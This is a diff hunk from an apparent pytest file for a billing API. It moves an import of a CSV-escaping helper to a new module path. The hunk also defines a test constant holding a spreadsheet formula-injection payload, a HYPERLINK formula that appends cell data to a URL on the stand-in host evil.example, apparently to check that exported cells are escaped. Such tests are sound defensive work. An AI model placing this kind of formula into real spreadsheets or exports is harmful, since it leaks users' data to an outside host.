@@ -14,7 +14,7 @@ import pytest
 from conftest import Api, build_api
 from test_billing_api import PLAN, get, move_to, ok, post, run
 
-from meterline.csvsafe import FORMULA_PREFIXES, cell
+from meterline.domain.csvsafe import FORMULA_PREFIXES, cell
 
 LINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 NUMBER = re.compile(r"-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")
